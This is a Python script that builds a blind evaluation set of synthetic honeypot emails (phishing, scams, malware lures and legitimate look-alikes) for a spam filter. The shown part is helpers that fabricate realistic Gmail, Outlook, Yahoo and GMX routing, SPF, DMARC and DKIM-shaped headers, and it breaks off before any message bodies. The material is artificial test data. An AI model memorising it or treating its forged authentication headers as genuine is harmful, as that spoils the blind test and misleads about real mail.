#!/usr/bin/env python3
"""Blind set 50: a "phishing pot" of consumer honeypot mailboxes (2024-2026).

Mailboxes on Outlook.com, Gmail, Yahoo, AOL, GMX and WEB.DE, in English and
German with a few Dutch and French ones, as the collection publishes them: the
original message with the receiving provider's own headers on top.  50 attacks
(mass consumer phishing, callback scams, advance-fee, sextortion, a few malware
attachments) and 25 legitimate look-alikes (the genuine mail of the same brands,
retail newsletters, a dating site's notification, personal mail).

Written blind: without the filter's code, rules or samples.  Deterministic:
every identifier is derived from the message stem with SHA-256.

    cd /work/main && .venv/bin/python samples/tools/build_blind50_samples.py
"""

from __future__ import annotations

import base64
import hashlib
import re
import sys
from dataclasses import dataclass, field
from datetime import datetime, timedelta, timezone
from email import policy
from email.parser import BytesParser
from email.utils import format_datetime
from pathlib import Path
from urllib.parse import quote
from zoneinfo import ZoneInfo

HERE = Path(__file__).resolve().parent
ROOT = HERE.parent.parent
sys.path.insert(0, str(HERE))

import files  # noqa: E402
from mime import Leaf, Multi, attachment, message, text  # noqa: E402

N = 50
MAIL = ROOT / "samples" / "mail"
MANIFEST = HERE / f"blind{N}_manifest.txt"

# Engineers move a legitimate stem between clean and bulk here: {stem: folder}.
# Maintainer's corrections after the first scan (the names keep the writer's kind):
REFILED: dict[str, str] = {
    # A link to a download, no program in the message: the engine names the lure phishing, not malware.
    "b50-phish-photos-scr-discordcdn": "phishing",
    # Notices from no-reply senders and bulk-mail services: the engine's classification calls them bulk.
    "b50-legit-netflix-new-device": "bulk",
    "b50-legit-apple-receipt": "bulk",
    "b50-legit-icloud-storage-almost-full": "bulk",
    "b50-legit-amazon-shipped": "bulk",
    "b50-legit-dhl-sendung-heute": "bulk",
    "b50-legit-sparkasse-postfach": "bulk",
    "b50-legit-chase-balance-alert": "bulk",
    "b50-legit-wellsfargo-statement": "bulk",
    "b50-legit-coinbase-received-eth": "bulk",
    "b50-legit-usps-informed-delivery": "bulk",
    "b50-legit-microsoft-unusual-signin": "bulk",
    "b50-legit-postnl-pakket-vandaag": "bulk",
}

UTC = timezone.utc
PACIFIC = ZoneInfo("America/Los_Angeles")
BERLIN = ZoneInfo("Europe/Berlin")
LONDON = ZoneInfo("Europe/London")
NEWYORK = ZoneInfo("America/New_York")
CHICAGO = ZoneInfo("America/Chicago")
PARIS = ZoneInfo("Europe/Paris")
AMSTERDAM = ZoneInfo("Europe/Amsterdam")


# --------------------------------------------------------------------------
# deterministic identifiers
# --------------------------------------------------------------------------

def _stream(seed: str, n: int) -> bytes:
    out = b""
    i = 0
    while len(out) < n:
        out += hashlib.sha256(f"b50|{seed}|{i}".encode()).digest()
        i += 1
    return out[:n]


def b64(seed: str, n: int) -> str:
    """Base64 of n pseudo-random bytes."""
    return base64.b64encode(_stream(seed, n)).decode()


def b64url(seed: str, n: int) -> str:
    return base64.urlsafe_b64encode(_stream(seed, n)).decode().rstrip("=")


def hexs(seed: str, n: int) -> str:
    return _stream(seed, (n + 1) // 2).hex()[:n]


ALNUM = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
UPPERNUM = "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
LOWERNUM = "abcdefghijklmnopqrstuvwxyz0123456789"


def alnum(seed: str, n: int, alphabet: str = ALNUM) -> str:
    return "".join(alphabet[b % len(alphabet)] for b in _stream(seed, n))


def digits(seed: str, n: int) -> str:
    return "".join(str(b % 10) for b in _stream(seed, n))


def guid(seed: str) -> str:
    h = hexs(seed, 32)
    return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-a{h[17:20]}-{h[20:32]}"


def fold_token(value: str, indent: str = "\t ", first: int = 60, width: int = 70) -> str:
    """Fold a long opaque token (a DKIM b= value) over several header lines."""
    parts = [value[:first]]
    rest = value[first:]
    while rest:
        parts.append(rest[:width])
        rest = rest[width:]
    return ("\n" + indent).join(parts)


def rfc(dt: datetime, tz=None) -> str:
    return format_datetime(dt.astimezone(tz) if tz else dt)


def ts(dt: datetime) -> int:
    return int(dt.timestamp())


def utc(y, mo, d, h, mi, s=0) -> datetime:
    return datetime(y, mo, d, h, mi, s, tzinfo=UTC)


# --------------------------------------------------------------------------
# header encodings
# --------------------------------------------------------------------------

_QSAFE = set(b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789!*+-/")


def qword(s: str, charset: str = "UTF-8") -> str:
    """RFC 2047 Q encoding, split into words of at most 75 characters."""
    if s.isascii():
        return s
    words, cur = [], ""
    for ch in s:
        piece = ""
        for byte in ch.encode(charset.lower() if charset.lower() != "utf-8" else "utf-8"):
            if byte == 0x20:
                piece += "_"
            elif byte in _QSAFE:
                piece += chr(byte)
            else:
                piece += f"={byte:02X}"
        if len(cur) + len(piece) > 75 - len(charset) - 7:
            words.append(cur)
            cur = ""
        cur += piece
    words.append(cur)
    return "\n ".join(f"=?{charset}?Q?{w}?=" for w in words)


def bword(s: str, charset: str = "UTF-8") -> str:
    """RFC 2047 B encoding, split on character boundaries."""
    if s.isascii():
        return s
    words, cur = [], ""
    for ch in s:
        if len(base64.b64encode((cur + ch).encode("utf-8"))) > 75 - len(charset) - 7:
            words.append(cur)
            cur = ""
        cur += ch
    words.append(cur)
    return "\n ".join(f"=?{charset}?B?{base64.b64encode(w.encode('utf-8')).decode()}?=" for w in words)


def addr(name: str, email: str, enc: str = "q", quote_name: bool = False) -> str:
    if not name:
        return email
    if not name.isascii():
        return f"{qword(name) if enc == 'q' else bword(name)} <{email}>"
    if quote_name or any(c in name for c in ',.;:()[]@"'):
        return f'"{name}" <{email}>'
    return f"{name} <{email}>"


# --------------------------------------------------------------------------
# DKIM signatures (shape only; they cannot be verified offline)
# --------------------------------------------------------------------------

def dkim_b(stem: str, domain: str) -> str:
    return b64(f"{stem}|dkim|{domain}", 256)


def dkim(stem: str, domain: str, selector: str, when: datetime,
         h: str = "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type",
         c: str = "relaxed/relaxed", expire: int | None = None, extra: str = "",
         a: str = "rsa-sha256", q: bool = False) -> str:
    t = ts(when) - 2
    head = f"DKIM-Signature: v=1; a={a}; c={c}; d={domain};\n\ts={selector}; t={t};"
    if expire:
        head += f" x={t + expire};"
    if q:
        head += " q=dns/txt;"
    if extra:
        head += f" {extra};"
    h_lines = []
    cur = ""
    for field_name in h.split(":"):
        add = field_name if not cur else ":" + field_name
        if len(cur) + len(add) > 62:
            h_lines.append(cur + ":")
            cur = field_name
        else:
            cur += add
    h_lines.append(cur)
    head += "\n\th=" + "\n\t ".join(h_lines) + ";"
    head += f"\n\tbh={b64(f'{stem}|bh|{domain}', 32)};"
    head += "\n\tb=" + fold_token(dkim_b(stem, domain))
    return head


# --------------------------------------------------------------------------
# the receiving providers
# --------------------------------------------------------------------------

@dataclass
class Inbound:
    """The last hop into the honeypot provider and what its checks found."""

    provider: str  # gmail, outlook, yahoo, aol, gmx, webde
    rcpt: str
    when: datetime  # arrival at the provider's edge (UTC)
    ip: str
    host: str  # PTR of the connecting host ("" for none)
    mailfrom: str  # envelope sender
    helo: str = ""  # defaults to host
    spf: str = "pass"  # pass, fail, softfail, neutral, none
    dkim: list = field(default_factory=list)  # [(domain, selector, result)]
    dmarc: str = "pass"  # pass, fail, none ("" = no record published)
    policy: str = "NONE"  # published p=
    hfrom: str = ""  # RFC5322.From domain
    spam: bool = False
    country: str = "US"
    lang: str = "en"
    bcl: int = 0


def _mf_domain(m: Inbound) -> str:
    return m.mailfrom.split("@")[-1] if m.mailfrom else m.helo or m.host


def gmail_headers(stem: str, m: Inbound) -> tuple[list[str], list[str]]:
    def lt(dt):
        local = dt.astimezone(PACIFIC)
        return f"{format_datetime(local)} ({local.tzname()})"

    host = m.host or "unknown"
    helo = m.helo or m.host
    ip = m.ip
    mf = m.mailfrom
    auth = []
    for domain, selector, result in m.dkim:
        if result == "pass":
            auth.append(f"dkim=pass header.i=@{domain} header.s={selector} header.b={dkim_b(stem, domain)[:8]}")
        elif result == "fail":
            auth.append(f"dkim=neutral (body hash did not verify) header.i=@{domain} header.s={selector} "
                        f"header.b={dkim_b(stem, domain)[:8]}")
        else:
            auth.append(f"dkim=temperror (no key for signature) header.i=@{domain} header.s={selector} "
                        f"header.b={dkim_b(stem, domain)[:8]}")
    spf_text = {
        "pass": f"pass (google.com: domain of {mf} designates {ip} as permitted sender)",
        "fail": f"fail (google.com: domain of {mf} does not designate {ip} as permitted sender)",
        "softfail": f"softfail (google.com: domain of transitioning {mf} does not designate {ip} as permitted sender)",
        "neutral": f"neutral (google.com: {ip} is neither permitted nor denied by best guess record for domain of {mf})",
        "none": f"none (google.com: {mf} does not designate permitted sender hosts)",
    }[m.spf]
    auth.append(f"spf={spf_text} smtp.mailfrom={mf}")
    if m.dmarc:
        dis = "NONE"
        if m.dmarc == "fail" and m.policy in ("REJECT", "QUARANTINE"):
            dis = "SPAM" if m.policy == "REJECT" else "QUARANTINE"
        auth.append(f"dmarc={m.dmarc} (p={m.policy} sp={m.policy} dis={dis}) header.from={m.hfrom}")
    auth_body = ";\n".join("       " + a for a in auth)
    arc_sel = "arc-20240605" if m.when >= utc(2024, 6, 5, 0, 0) else "arc-20160816"
    internal = f"2002:a05:{hexs(stem + 'gi1', 4)}:{hexs(stem + 'gi2', 3)}:b0:{hexs(stem + 'gi3', 3)}:{hexs(stem + 'gi4', 4)}:{hexs(stem + 'gi5', 4)}"
    internal2 = f"2002:a17:{hexs(stem + 'gj1', 3)}:{hexs(stem + 'gj2', 4)}:b0:{hexs(stem + 'gj3', 3)}:{hexs(stem + 'gj4', 4)}:{hexs(stem + 'gj5', 4)}"
    csp = f"{alnum(stem + 'csp', 2, 'abcdefghijklmnopqrstuvwxyz')}{digits(stem + 'cspn', 2)}csp{digits(stem + 'cspd', 7)}{alnum(stem + 'cspz', 3, 'abcdefghijklmnopqrstuvwxyz')}"
    smtp_id = f"{alnum(stem + 'sid1', 1, 'abcdefghijklmnopqrstuvwxyz')}{digits(stem + 'sid2', 1)}-20020a17{hexs(stem + 'sid3', 16)}{alnum(stem + 'sid4', 3, LOWERNUM)}.{digits(stem + 'sid5', 3)}.{digits(stem + 'sid6', 4)}"
    edge_id = f"{digits(stem + 'eid', 10)}{alnum(stem + 'eid2', 1, 'abcdef')}{digits(stem + 'eid3', 3)}-{hexs(stem + 'eid4', 13)}si{digits(stem + 'eid5', 7)}.{digits(stem + 'eid6', 3)}.{digits(stem + 'eid7', 4)}"
    if "google.com" in host:
        edge = (f"Received: from {host} ({host}. [{ip}])\n        by mx.google.com with SMTPS id {edge_id}\n"
                f"        for <{m.rcpt}>\n        (Google Transport Security);\n        {lt(m.when)}")
    elif host == "unknown":
        edge = (f"Received: from {helo} ([{ip}])\n        by mx.google.com with ESMTPS id {edge_id}\n"
                f"        for <{m.rcpt}>\n        (version=TLS1_2 cipher=ECDHE-RSA-AES128-GCM-SHA256 bits=128/128);\n        {lt(m.when)}")
    else:
        edge = (f"Received: from {helo} ({host}. [{ip}])\n        by mx.google.com with ESMTPS id {edge_id}\n"
                f"        for <{m.rcpt}>\n        (version=TLS1_3 cipher=TLS_AES_256_GCM_SHA384 bits=256/256);\n        {lt(m.when)}")
    top = [
        f"Delivered-To: {m.rcpt}",
        f"Received: by {internal} with SMTP id {csp};\n        {lt(m.when + timedelta(seconds=1))}",
        f"X-Google-Smtp-Source: AGHT+I{alnum(stem + 'xgss', 82)}",
        f"X-Received: by {internal2} with SMTP id {smtp_id};\n        {lt(m.when + timedelta(seconds=1))}",
        f"ARC-Seal: i=1; a=rsa-sha256; t={ts(m.when)}; cv=none;\n        d=google.com; s={arc_sel};\n"
        f"        b={fold_token(b64(stem + 'arcseal', 256), '        ', 58, 70)}",
        f"ARC-Message-Signature: i=1; a=rsa-sha256; c=relaxed/relaxed; d=google.com; s={arc_sel};\n"
        f"        h=to:subject:message-id:date:from:mime-version:dkim-signature;\n"
        f"        bh={b64(stem + 'arcbh', 32)};\n        fh={b64(stem + 'arcfh', 32)};\n"
        f"        b={fold_token(b64(stem + 'arcms', 256), '        ', 58, 70)}",
        f"ARC-Authentication-Results: i=1; mx.google.com;\n{auth_body}",
        f"Return-Path: <{mf}>",
        edge,
        f"Received-SPF: {spf_text} client-ip={ip};",
        f"Authentication-Results: mx.google.com;\n{auth_body}",
    ]
    return top, []


def _outlook_server(seed: str, region: str = "NAMP223") -> str:
    prefix = {"NAMP223": "PH7P223MB", "EURP195": "AS8P195MB", "NAMP220": "SA1P220MB"}[region]
    return f"{prefix}{digits(seed, 4)}.{region}.PROD.OUTLOOK.COM"


def outlook_headers(stem: str, m: Inbound) -> tuple[list[str], list[str]]:
    eu = m.rcpt.endswith((".co.uk", ".nl", ".fr", ".de"))
    region = "EURP195" if eu else "NAMP223"
    mbx = _outlook_server(stem + "mbx", region)
    if eu:
        fe = f"AM{digits(stem + 'fe', 1)}PEPF0000{alnum(stem + 'fe2', 4, '0123456789ABCDEF')}.eurprd04.prod.outlook.com"
        fe_short = fe.split(".")[0]
        ca = f"DU{digits(stem + 'ca', 1)}PR0{digits(stem + 'ca1', 1)}CA0{digits(stem + 'ca2', 3)}.eurprd0{1 + int(digits(stem + 'ca3', 1)) % 8}.prod.outlook.com"
        v6a, v6b = f"2603:10a6:10:{hexs(stem + 'v6a', 3)}::{1 + int(digits(stem + 'v6c', 1)) % 9}", f"2603:10a6:20b:{hexs(stem + 'v6b', 3)}::{10 + int(digits(stem + 'v6d', 2)) % 80}"
    else:
        fe = f"DS{digits(stem + 'fe', 1)}PEPF0000{alnum(stem + 'fe2', 4, '0123456789ABCDEF')}.namprd0{1 + int(digits(stem + 'fe3', 1)) % 8}.prod.outlook.com"
        fe_short = fe.split(".")[0]
        ca = f"MN2PR0{digits(stem + 'ca1', 1)}CA00{digits(stem + 'ca2', 2)}.namprd0{1 + int(digits(stem + 'ca3', 1)) % 8}.prod.outlook.com"
        v6a, v6b = f"2603:10b6:208:{hexs(stem + 'v6a', 3)}::{1 + int(digits(stem + 'v6c', 1)) % 9}", f"2603:10b6:510:{hexs(stem + 'v6b', 3)}::{10 + int(digits(stem + 'v6d', 2)) % 80}"
    build = "15.20.8" + digits(stem + "build", 3) + "." + digits(stem + "build2", 2) if m.when.year >= 2025 else \
        "15.20.7" + digits(stem + "build", 3) + "." + digits(stem + "build2", 2)
    t0, t1, t2 = m.when, m.when + timedelta(seconds=1), m.when + timedelta(seconds=2)
    mfd = _mf_domain(m)
    spf_txt = {"pass": "pass", "fail": "fail", "softfail": "softfail", "neutral": "neutral", "none": "none"}[m.spf]
    dk = m.dkim[0] if m.dkim else None
    if dk and dk[2] == "pass":
        dkim_txt = f"dkim=pass (signature was verified)\n header.d={dk[0]}"
    elif dk:
        dkim_txt = f"dkim=fail (body hash did not verify)\n header.d={dk[0]}"
    else:
        dkim_txt = "dkim=none (message not signed)\n header.d=none"
    if m.dmarc == "pass":
        dmarc_txt = f"dmarc=pass action=none header.from={m.hfrom};compauth=pass reason=100"
    elif m.dmarc == "fail":
        action = {"REJECT": "oreject", "QUARANTINE": "quarantine"}.get(m.policy, "none")
        dmarc_txt = f"dmarc=fail action={action} header.from={m.hfrom};compauth=fail reason=000"
    elif m.dmarc == "bestguesspass":
        dmarc_txt = f"dmarc=bestguesspass action=none header.from={m.hfrom};compauth=pass reason=109"
    else:
        reason = "601" if m.spam else "109"
        comp = "fail" if m.spam else "pass"
        dmarc_txt = f"dmarc=none action=none header.from={m.hfrom};compauth={comp} reason={reason}"
    spf_recv = {
        "pass": f"Pass (protection.outlook.com: domain of {mfd} designates\n {m.ip} as permitted sender)",
        "fail": f"Fail (protection.outlook.com: domain of {mfd} does not\n designate {m.ip} as permitted sender)",
        "softfail": f"SoftFail (protection.outlook.com: domain of transitioning\n {mfd} discourages use of {m.ip} as permitted sender)",
        "neutral": f"Neutral (protection.outlook.com: {m.ip} is neither permitted nor denied by\n domain of {mfd})",
        "none": f"None (protection.outlook.com: {mfd} does not designate\n permitted sender hosts)",
    }[m.spf]
    helo = m.helo or m.host or f"[{m.ip}]"
    host_part = f"{m.host} ({m.ip})" if m.host else f"{helo} ({m.ip})"
    top = [
        f"Received: from {mbx} ({v6b}) by\n {_outlook_server(stem + 'mbx2', region)} with HTTPS; {rfc(t2)}",
        f"Received: from {ca} ({v6a}) by\n {mbx} ({v6b}) with Microsoft\n SMTP Server (version=TLS1_2,"
        f" cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id\n {build}; {rfc(t1)}",
        f"Received: from {fe}\n ({v6a.rsplit('::', 1)[0]}:cafe::{hexs(stem + 'cafe', 2)}) by {ca.split('.')[0]}.outlook.office365.com\n"
        f" ({v6a}) with Microsoft SMTP Server (version=TLS1_3,\n cipher=TLS_AES_256_GCM_SHA384) id {build} via Frontend\n Transport; {rfc(t1)}",
        f"Authentication-Results: spf={spf_txt} (sender IP is {m.ip})\n smtp.mailfrom={mfd}; {dkim_txt};{dmarc_txt}",
        f"Received-SPF: {spf_recv} receiver=protection.outlook.com;\n client-ip={m.ip}; helo={helo};{' pr=C' if m.spf == 'pass' else ''}",
        f"Received: from {host_part} by\n {fe_short}.mail.protection.outlook.com (10.167.{10 + int(digits(stem + 'ip3', 2)) % 240}.{10 + int(digits(stem + 'ip4', 2)) % 240}) with Microsoft SMTP\n"
        f" Server (version=TLS1_3, cipher=TLS_AES_256_GCM_SHA384) id {build}\n via Frontend Transport; {rfc(t0)}",
        f"X-IncomingTopHeaderMarker:\n OriginalChecksum:{alnum(stem + 'ock', 64, UPPERNUM[:16])};"
        f"UpperCasedChecksum:{alnum(stem + 'uck', 64, UPPERNUM[:16])};SizeAsReceived:{3000 + int(digits(stem + 'sz', 4))};Count:{14 + int(digits(stem + 'cnt', 1))}",
    ]
    scl = 5 if m.spam else 1
    sfv = "SPM" if m.spam else "NSPM"
    dest = "J" if m.spam else "I"
    delivery = base64.b64encode(f"V=1.1;us=0;l=0;a=0;D={'2' if m.spam else '1'};GD=1;SCL={'6' if m.spam else '3'}".encode()).decode()
    ptr = m.host or "InfoNoRecords"
    bottom = [
        f"X-MS-Exchange-Organization-ExpirationStartTime: {t0.strftime('%d %b %Y %H:%M:%S.')}{digits(stem + 'ms', 4)}\n (UTC)",
        "X-MS-Exchange-Organization-ExpirationStartTimeReason: OriginalSubmit",
        "X-MS-Exchange-Organization-ExpirationInterval: 1:00:00:00.0000000",
        "X-MS-Exchange-Organization-ExpirationIntervalReason: OriginalSubmit",
        f"X-MS-Exchange-Organization-Network-Message-Id:\n {guid(stem + 'netmsg')}",
        "X-EOPAttributedMessage: 0",
        "X-EOPTenantAttributedMessage: 84df9e7f-e9f6-40af-b435-aaaaaaaaaaaa:0",
        "X-MS-Exchange-Organization-MessageDirectionality: Incoming",
        "X-MS-PublicTrafficType: Email",
        f"X-MS-TrafficTypeDiagnostic:\n {fe_short}:EE_|{mbx.split('.')[0]}:EE_|{_outlook_server(stem + 'mbx2', region).split('.')[0]}:EE_",
        f"X-MS-Exchange-Organization-AuthSource:\n {fe}",
        "X-MS-Exchange-Organization-AuthAs: Anonymous",
        f"X-MS-Office365-Filtering-Correlation-Id: {guid(stem + 'corr')}",
        f"X-MS-Exchange-Organization-SCL: {scl}",
        f"X-Microsoft-Antispam: BCL:{m.bcl};ARA:1444111002|{digits(stem + 'ara1', 7)}|{digits(stem + 'ara2', 8)}|2040099003|{digits(stem + 'ara3', 7)};",
        f"X-Forefront-Antispam-Report:\n CIP:{m.ip};CTRY:{m.country};LANG:{m.lang};SCL:{scl};SRV:{'BULK' if m.bcl >= 6 else ''};IPV:NLI;SFV:{sfv};H:{helo};PTR:{ptr};CAT:{'SPM' if m.spam else 'NONE'};"
        f"SFS:({digits(stem + 'sfs1', 7)})({digits(stem + 'sfs2', 7)})({digits(stem + 'sfs3', 7)});DIR:INB;",
        f"X-MS-Exchange-CrossTenant-OriginalArrivalTime: {t0.strftime('%d %b %Y %H:%M:%S.')}{digits(stem + 'oat', 4)}\n (UTC)",
        f"X-MS-Exchange-CrossTenant-Network-Message-Id: {guid(stem + 'netmsg')}",
        "X-MS-Exchange-CrossTenant-Id: 84df9e7f-e9f6-40af-b435-aaaaaaaaaaaa",
        f"X-MS-Exchange-CrossTenant-AuthSource:\n {fe}",
        "X-MS-Exchange-CrossTenant-AuthAs: Anonymous",
        "X-MS-Exchange-CrossTenant-FromEntityHeader: Internet",
        "X-MS-Exchange-CrossTenant-RMS-PersistedConsumerOrg:\n 00000000-0000-0000-0000-000000000000",
        f"X-MS-Exchange-Transport-CrossTenantHeadersStamped: {mbx.split('.')[0]}",
        f"X-MS-Exchange-Transport-EndToEndLatency: 00:00:0{digits(stem + 'e2e', 1)}.{digits(stem + 'e2e2', 7)}",
        f"X-MS-Exchange-Processed-By-BccFoldering: 15.20.{digits(stem + 'bccf', 4)}.000",
        f"X-Microsoft-Antispam-Mailbox-Delivery:\n\tucf:0;jmr:0;auth:0;dest:{dest};ENG:(910005)(944506478)(944626604)(920097)({digits(stem + 'eng', 6)})"
        f"(930097)(3100021)(140003);RF:JunkEmail;" if m.spam else
        f"X-Microsoft-Antispam-Mailbox-Delivery:\n\tucf:0;jmr:0;auth:0;dest:{dest};ENG:(910005)(944506478)(944626604)(920097)({digits(stem + 'eng', 6)})"
        f"(930097)(3100021)(140003);",
        f"X-Message-Info:\n\tqZelhIiYnPnLa8lZp5ZyW6w2sp1rXYVWmBMwRYL/{alnum(stem + 'xmi', 60)}==",
        f"X-Message-Delivery: {delivery}",
        f"X-Microsoft-Antispam-Message-Info:\n\t=?us-ascii?Q?{alnum(stem + 'amsi1', 64)}?=\n =?us-ascii?Q?{alnum(stem + 'amsi2', 64)}?=",
    ]
    return top, bottom


def yahoo_headers(stem: str, m: Inbound) -> tuple[list[str], list[str]]:
    aol = m.provider == "aol"
    pod = f"atlas{100 + int(digits(stem + 'atl', 3)) % 300}.{'aol' if aol else 'free'}.mail.{'ne1' if int(digits(stem + 'dc', 1)) % 2 else 'bf1'}.yahoo.com"
    inner = f"10.{197 + int(digits(stem + 'in1', 1))}.{digits(stem + 'in2', 2)}.{int(digits(stem + 'in3', 3)) % 250}"
    helo = m.helo or m.host or m.ip
    mfd = _mf_domain(m)
    auth = []
    if m.dkim:
        for domain, selector, result in m.dkim:
            auth.append(f"dkim={'pass' if result == 'pass' else 'perm_fail'} header.i=@{domain} header.s={selector}")
    else:
        auth.append("dkim=unknown")
    auth.append(f"spf={m.spf} smtp.mailfrom={mfd}")
    if m.dmarc == "pass":
        auth.append(f"dmarc=pass(p={m.policy}) header.from={m.hfrom}")
    elif m.dmarc == "fail":
        auth.append(f"dmarc=fail(p={m.policy},sp={m.policy}) header.from={m.hfrom}")
    else:
        auth.append(f"dmarc=unknown header.from={m.hfrom}")
    spf_line = {
        "pass": f"pass (domain of {mfd} designates {m.ip} as permitted sender)",
        "fail": f"fail (domain of {mfd} does not designate {m.ip} as permitted sender)",
        "softfail": f"softfail (domain of transitioning {mfd} does not designate {m.ip} as permitted sender)",
        "neutral": f"neutral (domain of {mfd} does not designate {m.ip} as permitted sender)",
        "none": f"none (domain of {mfd} does not designate permitted sender hosts)",
    }[m.spf]
    top = [
        f"Received: from {inner}\n by {pod} with HTTP; {rfc(m.when + timedelta(seconds=1))}",
        f"Return-Path: <{m.mailfrom}>",
        f"Received: from {m.ip} (EHLO {helo})\n by {inner} with SMTPs\n (version=TLS1_3 cipher=TLS_AES_128_GCM_SHA256);\n {rfc(m.when)}",
        f"X-Originating-Ip: [{m.ip}]",
        f"Received-SPF: {spf_line}",
        f"Authentication-Results: {pod};\n " + ";\n ".join(auth) + ";",
        f"X-Apparently-To: {m.rcpt}; {rfc(m.when)}",
        f"X-YMailISG: {alnum(stem + 'isg', 60, ALNUM + '._')}\n {alnum(stem + 'isg2', 70, ALNUM + '._')}\n {alnum(stem + 'isg3', 40, ALNUM + '._')}",
        f"X-YMail-JAS: {alnum(stem + 'jas', 64, ALNUM + '._')}--",
    ]
    if m.spam:
        top.append("X-YMail-OSG: " + alnum(stem + 'osg', 60, ALNUM + '._'))
    return top, []


def gmx_headers(stem: str, m: Inbound) -> tuple[list[str], list[str]]:
    webde = m.provider == "webde"
    mx = "mx-ha.web.de" if webde else "mx-ha.gmx.net"
    node = f"mxweb{100 + int(digits(stem + 'mxn', 2))}" if webde else f"mxgmx{100 + int(digits(stem + 'mxn', 2))}"
    nip = f"212.227.{15 if int(digits(stem + 'nip', 1)) % 2 else 17}.{int(digits(stem + 'nip2', 2)) + 3}"
    realm = "web.de" if webde else "gmx.net"
    helo = m.helo or m.host or f"[{m.ip}]"
    src = f"{m.host} ([{m.ip}])" if m.host else f"{helo} ([{m.ip}])"
    nem = f"1M{alnum(stem + 'nem1', 4)}-1{alnum(stem + 'nem2', 8)}{digits(stem + 'nem3', 1)}{alnum(stem + 'nem4', 2)}"
    berlin = lambda dt: rfc(dt, BERLIN)
    top = [
        f"Return-Path: <{m.mailfrom}>",
        f"Received: from {src} by {mx} ({node}\n [{nip}]) with ESMTPS (Nemesis) id {nem} for\n <{m.rcpt}>; {berlin(m.when)}",
    ]
    for domain, selector, result in m.dkim:
        top.append(f"Authentication-Results: {realm}; dkim={'pass' if result == 'pass' else 'fail'} header.i=@{domain}")
    if not m.dkim:
        top.append(f"Authentication-Results: {realm}; dkim=none")
    top.append(f"Authentication-Results: {realm}; spf={m.spf} smtp.mailfrom={m.mailfrom}")
    top.append(f"Authentication-Results: {realm}; dmarc={m.dmarc or 'none'} header.from={m.hfrom}")
    if m.spam:
        top += [
            "X-Spam-Flag: YES",
            f"X-GMX-Antispam: 5 (nemesis text pattern profiler); Detail=V3;",
            f"X-UI-Filterresults: junk:10;V03:K0:{b64(stem + 'uif1', 8)}:{b64(stem + 'uif2', 120)}",
        ]
    else:
        top += [
            "X-Spam-Flag: NO",
            "X-GMX-Antispam: 0 (Mail was not recognized as spam); Detail=V3;",
            f"X-UI-Filterresults: notjunk:1;V03:K0:{b64(stem + 'uif1', 8)}:{b64(stem + 'uif2', 120)}",
        ]
    top.append(f"Envelope-To: <{m.rcpt}>")
    return top, []


PROVIDERS = {"gmail": gmail_headers, "outlook": outlook_headers, "yahoo": yahoo_headers,
             "aol": yahoo_headers, "gmx": gmx_headers, "webde": gmx_headers}


# --------------------------------------------------------------------------
# the messages
# --------------------------------------------------------------------------

@dataclass
class Sample:
    stem: str
    folder: str
    description: str
    data: bytes


SAMPLES: list[Sample] = []


def emit(stem: str, folder: str, description: str, inbound: Inbound, hops: list[str], headers: str, body) -> None:
    """Provider headers on top, the sender's Received hops, the message's own headers, the MIME body."""
    top, bottom = PROVIDERS[inbound.provider](stem, inbound)
    block = "\n".join(top + hops + [headers.strip("\n")] + bottom)
    # identifiers are drawn from digit streams: no leading zeros in IPv4 octets or IPv6 groups
    block = re.sub(r"(?<![\d.])(\d{1,3})\.(\d{1,3})\.(\d{1,3})\.(\d{1,3})(?![\d.])",
                   lambda m: ".".join(str(int(x)) for x in m.groups()), block)
    block = re.sub(r"::0(\d)\b", r"::\1", block)
    SAMPLES.append(Sample(stem, folder, description, message(block, body)))


def rcv(text_: str, dt: datetime, tz=None) -> str:
    """A sender-side Received header: ``text_`` is everything before the date."""
    return f"Received: {text_};\n\t{rfc(dt, tz)}"


def alt(plain: str, html: str, boundary: str, enc: str = "quoted-printable", charset: str = "utf-8") -> Multi:
    return Multi("alternative", boundary, [text(plain, "plain", enc, charset), text(html, "html", enc, charset)])


def bnd(stem: str, style: str = "std", n: int = 0) -> str:
    """Multipart boundaries the way various senders write them."""
    s = f"{stem}|bnd{n}"
    if style == "gmail":
        return f"000000000000{hexs(s, 16)}"
    if style == "outlook":
        return f"_00{digits(s, 1)}_{alnum(s + 'a', 36, UPPERNUM)}_"
    if style == "yahoo":
        return f"----=_Part_{digits(s, 7)}_{digits(s + 'b', 9)}.{digits(s + 'c', 13)}"
    if style == "php":
        return f"b1_{alnum(s, 43)}"
    if style == "sfmc":
        return f"----=_Part_{digits(s, 8)}_{digits(s + 'b', 9)}.{digits(s + 'c', 13)}"
    if style == "ses":
        return f"----=_Part_{digits(s, 7)}_{digits(s + 'b', 10)}.{digits(s + 'c', 13)}"
    if style == "sendgrid":
        return hexs(s, 64)
    if style == "mailchimp":
        return f"_----------=_MCPart_{digits(s, 10)}"
    if style == "apple":
        return f"----=_Part_{digits(s, 7)}_{digits(s + 'b', 9)}.{digits(s + 'c', 13)}"
    return f"=_{hexs(s, 32)}"


def pixel(url: str) -> str:
    return f'<img src="{url}" width="1" height="1" alt="" style="display:block;border:0;height:1px;width:1px" />'


# --------------------------------------------------------------------------
# sender-side helpers: webmail clients and common mail servers
# --------------------------------------------------------------------------

def gmail_sent(stem: str, when: datetime, rcpt_domain: str, workspace: str = "") -> tuple[list[str], str]:
    """Hops a Gmail (or Google Workspace) web client adds; returns (hops, Message-ID)."""
    domain = workspace or "gmail.com"
    selector = "google" if workspace else "20230601"
    local = when.astimezone(PACIFIC)
    sig = dkim(stem, domain, selector, when,
               h="to:subject:message-id:date:from:mime-version:from:to:cc:subject:date:message-id:reply-to",
               expire=604800, extra=f"darn={rcpt_domain}")
    hops = [
        sig,
        dkim(stem, "1e100.net", "20230601", when,
             h="to:subject:message-id:date:from:mime-version:x-gm-message-state:from:to:cc:subject:date:message-id:reply-to",
             expire=604800).replace("DKIM-Signature", "X-Google-DKIM-Signature"),
        f"X-Gm-Message-State: AOJu0Y{alnum(stem + 'gms', 62)}\n\t{alnum(stem + 'gms2', 44)}",
    ]
    if when.year >= 2025:
        hops.append(f"X-Gm-Gg: ASbGnc{alnum(stem + 'ggg', 66)}\n\t{alnum(stem + 'ggg2', 70)}")
    hops += [
